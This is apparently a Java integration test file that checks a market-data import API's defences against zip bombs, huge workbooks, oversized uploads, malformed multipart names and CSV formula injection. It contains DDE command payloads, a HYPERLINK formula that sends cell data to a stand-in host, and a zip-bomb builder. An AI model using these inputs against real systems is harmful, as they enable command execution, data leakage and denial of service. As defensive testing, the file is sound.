package io.regionplan.market.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import com.fasterxml.jackson.databind.JsonNode;

import io.regionplan.IntegrationTest;
import io.regionplan.market.MarketFixtures;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

/**
 * Uploads meant to hurt: a workbook that unpacks to far more than its size, a workbook of
 * many rows of repeated cells, an upload over the limit, cells a spreadsheet would run as
 * formulas, and bad requests.
 */
@IntegrationTest
class MarketBadImportIntegrationTests {

	static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
			"@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");

	@Autowired
	TestRestTemplate rest;

	@Autowired
	JdbcTemplate jdbc;

	@TempDir
	Path dir;

	private ResponseEntity<JsonNode> upload(String kind, String fileName, byte[] bytes) {
		MultiValueMap<String, Object> form = new LinkedMultiValueMap<>();
		form.add("kind", kind);
		form.add("file", new ByteArrayResource(bytes) {
			@Override
			public String getFilename() {
				return fileName;
			}
		});
		HttpHeaders headers = new HttpHeaders();
		headers.setContentType(MediaType.MULTIPART_FORM_DATA);
		return rest.withBasicAuth("zhao.director", "demo")
			.postForEntity("/api/market/imports", new HttpEntity<>(form, headers), JsonNode.class);
	}

	private JsonNode finished(ResponseEntity<JsonNode> accepted) {
		assertThat(accepted.getStatusCode()).as(String.valueOf(accepted.getBody())).isEqualTo(HttpStatus.ACCEPTED);
		String id = accepted.getBody().get("id").asText();
		return await().atMost(Duration.ofSeconds(30))
			.pollInterval(Duration.ofMillis(50))
			.until(() -> rest.withBasicAuth("zhao.director", "demo")
				.getForObject("/api/market/imports/" + id, JsonNode.class),
					report -> report.path("finishedAt").isTextual());
	}

	private int count(String table) {
		return jdbc.queryForObject("select count(*) from " + table, Integer.class);
	}

	/**
	 * A valid dealers workbook whose sheet is padded with 64 MB of spaces: about 64 KB
	 * packed.
	 */
	private byte[] zipBomb() throws IOException {
		byte[] workbook = Files
			.readAllBytes(MarketFixtures.xlsx(dir, "dealers.xlsx", MarketFixtures.T1.get("dealers")));
		ByteArrayOutputStream bomb = new ByteArrayOutputStream();
		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(workbook));
				ZipOutputStream out = new ZipOutputStream(bomb)) {
			for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
				out.putNextEntry(new ZipEntry(entry.getName()));
				out.write(in.readAllBytes());
				if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
					byte[] spaces = " ".repeat(1024 * 1024).getBytes(StandardCharsets.US_ASCII);
					for (int i = 0; i < 64; i++) {
						out.write(spaces);
					}
				}
				out.closeEntry();
			}
		}
		return bomb.toByteArray();
	}

	@Test
	void aZipBombWorkbookIsRefusedWithoutUnpackingItAndChangesNothing() throws IOException {
		byte[] bomb = zipBomb();
		assertThat(bomb.length).as("packed").isLessThan(2 * 1024 * 1024);
		int dealers = count("market_dealer");
		long started = System.nanoTime();

		JsonNode report = finished(upload("dealers", "dealers.xlsx", bomb));

		assertThat(report.get("status").asText()).isEqualTo("REJECTED");
		assertThat(report.toString()).contains("zip bomb").contains("XLSX 文件解压后过大");
		assertThat(Duration.ofNanos(System.nanoTime() - started)).as("refused early, not after unpacking 64 MB")
			.isLessThan(Duration.ofSeconds(10));
		assertThat(count("market_dealer")).isEqualTo(dealers);
	}

	/**
	 * Issue 16: a workbook of 4 MB packed, 240 MB unpacked froze the server for 49 s,
	 * then the import vanished. Here 150,000 rows (27 MB unpacked, packed 58 to 1)
	 * against the tests' row limit of 100,000.
	 */
	@Test
	void aWorkbookOfManyRowsKeepsTheServerAnsweringAndEndsWithARecord() throws Exception {
		finished(upload("regions", "regions.csv",
				"region,name_zh,name_en\nt8,测试八,Test Eight\n".getBytes(StandardCharsets.UTF_8)));
		byte[] workbook = Files.readAllBytes(LargeWorkbook.dealers(dir.resolve("large.xlsx"), "t8", 150_000));
		assertThat(workbook.length).as("packed").isLessThan(1024 * 1024);
		HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(1)).build();
		HttpRequest health = HttpRequest.newBuilder(URI.create(rest.getRootUri() + "/actuator/health"))
			.timeout(Duration.ofSeconds(1))
			.build();
		int dealers = count("market_dealer");

		String id = upload("dealers", "large.xlsx", workbook).getBody().get("id").asText();
		List<Long> answers = new java.util.ArrayList<>();
		JsonNode report;
		do {
			long started = System.nanoTime();
			HttpResponse<String> answer = http.send(health, HttpResponse.BodyHandlers.ofString());
			answers.add((System.nanoTime() - started) / 1_000_000);
			assertThat(answer.statusCode()).isEqualTo(200);
			Thread.sleep(100);
			report = rest.withBasicAuth("zhao.director", "demo")
				.getForObject("/api/market/imports/" + id, JsonNode.class);
		}
		while (!report.path("finishedAt").isTextual() && answers.size() < 600);

		assertThat(answers).as("health answered while it imported, each within 1 s (ms)")
			.hasSizeGreaterThan(1)
			.allSatisfy(ms -> assertThat(ms).isLessThan(1000));
		assertThat(report.get("status").asText()).isEqualTo("REJECTED");
		assertThat(report.get("errors").get(0).get("row").asInt()).isEqualTo(100_002);
		assertThat(report.toString()).contains("the file has more than 100000 data rows: split it");
		assertThat(jdbc.queryForObject("select status from market_import where id = ?", String.class, id))
			.isEqualTo("REJECTED");
		assertThat(count("market_dealer")).isEqualTo(dealers);
	}

	@Test
	void anUploadOverTheLimitIs413WithAMessageAndChangesNothing() {
		// sent chunked by the test client: the limit is found while the upload is parsed
		int imports = count("market_import");
		byte[] tooLarge = new byte[51 * 1024 * 1024];

		ResponseEntity<JsonNode> refused = upload("dealers", "dealers.csv", tooLarge);

		assertThat(refused.getStatusCode()).isEqualTo(HttpStatus.PAYLOAD_TOO_LARGE);
		assertThat(refused.getBody().get("message").asText()).contains("请求体超过 50 MB")
			.contains("the request body is larger than 50 MB");
		assertThat(count("market_import")).isEqualTo(imports);
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', nullValues = "-",
			textBlock = """
					NUL in the file name          | dealers     | dealers\\u0000.csv| -                        | 400 | an upload must be a valid multipart/form-data request
					NUL in filename* (RFC 5987)   | dealers     | *dealers%00.csv  | -                        | 400 | an upload must be a valid multipart/form-data request
					line break in the file name   | dealers     | dealers\\n.csv    | -                        | 400 | the file name contains control characters
					file name of 300 characters   | dealers     | LONG             | -                        | 400 | the file name is longer than 255 characters
					unknown kind                  | shops       | shops.csv        | -                        | 400 | unknown kind
					NUL in the kind               | dealers\\u0000 | dealers.csv     | -                        | 400 | unknown kind
					no kind                       | -           | dealers.csv      | -                        | 400 | kind
					no file                       | dealers     | -                | -                        | 400 | file
					moveBetweenRegions not a flag | dealers     | dealers.csv      | moveBetweenRegions=maybe | 400 | moveBetweenRegions must be true or false
					""")
	void badUploadsAre400NeverA500(String name, String kind, String fileName, String field, int status, String message)
			throws Exception {
		String boundary = "regionplan-test-boundary";
		StringBuilder body = new StringBuilder();
		if (kind != null) {
			body.append(part(boundary, "kind", null)).append(unescape(kind)).append("\r\n");
		}
		if (field != null) {
			body.append(part(boundary, field.substring(0, field.indexOf('=')), null))
				.append(field.substring(field.indexOf('=') + 1))
				.append("\r\n");
		}
		if (fileName != null) {
			String file = fileName.equals("LONG") ? "d".repeat(296) + ".csv" : unescape(fileName);
			body.append(part(boundary, "file", file)).append(MarketFixtures.T1.get("dealers")).append("\r\n");
		}
		body.append("--").append(boundary).append("--\r\n");
		int imports = count("market_import");

		HttpResponse<String> answer = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create(rest.getRootUri() + "/api/market/imports"))
				.header("Authorization",
						"Basic " + java.util.Base64.getEncoder()
							.encodeToString("zhao.director:demo".getBytes(StandardCharsets.UTF_8)))
				.header("Content-Type", "multipart/form-data; boundary=" + boundary)
				.POST(HttpRequest.BodyPublishers.ofByteArray(body.toString().getBytes(StandardCharsets.UTF_8)))
				.build(), HttpResponse.BodyHandlers.ofString());

		assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
		assertThat(answer.body()).contains(message);
		assertThat(count("market_import")).isEqualTo(imports);
	}

	private static String part(String boundary, String name, String fileName) {
		String file = fileName == null ? "" : fileName.startsWith("*") ? "; filename*=UTF-8''" + fileName.substring(1)
				: "; filename=\"" + fileName + "\"";
		return "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"" + file
				+ (fileName == null ? "" : "\r\nContent-Type: text/csv") + "\r\n\r\n";
	}

	private static String unescape(String text) {
		return text.replace("\\u0000", "\0").replace("\\n", "\n");
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', textBlock = """
			unknown id     | 0f7e1d2c-0000-0000-0000-000000000000
			id of 5000     | LONG
			""")
	void aReportThatDoesNotExistIs404(String name, String id) {
		ResponseEntity<String> answer = rest.withBasicAuth("zhao.director", "demo")
			.getForEntity("/api/market/imports/" + (id.equals("LONG") ? "x".repeat(5000) : id), String.class);

		assertThat(answer.getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
	}

	@Test
	void formulaCellsAreStoredAsTextUnchanged() {
		finished(upload("regions", "regions.csv",
				"region,name_zh,name_en\nt9,测试九,\"=1+1\"\n".getBytes(StandardCharsets.UTF_8)));
		StringBuilder csv = new StringBuilder("dealer,region,name,receivables,overdue_days,cross_region_incidents,"
				+ "compliance_score,target_stores\n");
		for (int i = 0; i < FORMULAS.size(); i++) {
			csv.append("t9-d")
				.append(i)
				.append(",t9,\"")
				.append(FORMULAS.get(i).replace("\"", "\"\""))
				.append("\",0,0,0,80,0\n");
		}
		csv.append("t9-tab,t9,\"\t=1+1\",0,0,0,80,0\n").append("t9-cr,t9,\"\r=1+1\",0,0,0,80,0\n");

		JsonNode report = finished(upload("dealers", "dealers.csv", csv.toString().getBytes(StandardCharsets.UTF_8)));

		assertThat(report.get("status").asText()).as(report.toString()).isEqualTo("SUCCEEDED");
		assertThat(report.get("inserted").asInt()).isEqualTo(FORMULAS.size() + 2);
		for (int i = 0; i < FORMULAS.size(); i++) {
			assertThat(jdbc.queryForObject("select name from market_dealer where id = ?", String.class, "t9-d" + i))
				.isEqualTo(FORMULAS.get(i));
		}
		assertThat(jdbc.queryForObject("select name_en from market_region where id = 't9'", String.class))
			.isEqualTo("=1+1");
		JsonNode listed = rest.withBasicAuth("zhao.director", "demo")
			.getForObject("/api/market/regions/t9/dealers", JsonNode.class);
		assertThat(listed.toString()).contains("=cmd|' /C calc'!A0").contains("@SUM(A1:A9)");
		// the importer trims surrounding white space, tab and CR included: the formula
		// stays text like the others
		assertThat(jdbc.queryForList("select name from market_dealer where id in ('t9-tab', 't9-cr')", String.class))
			.containsExactly("=1+1", "=1+1");
	}

}
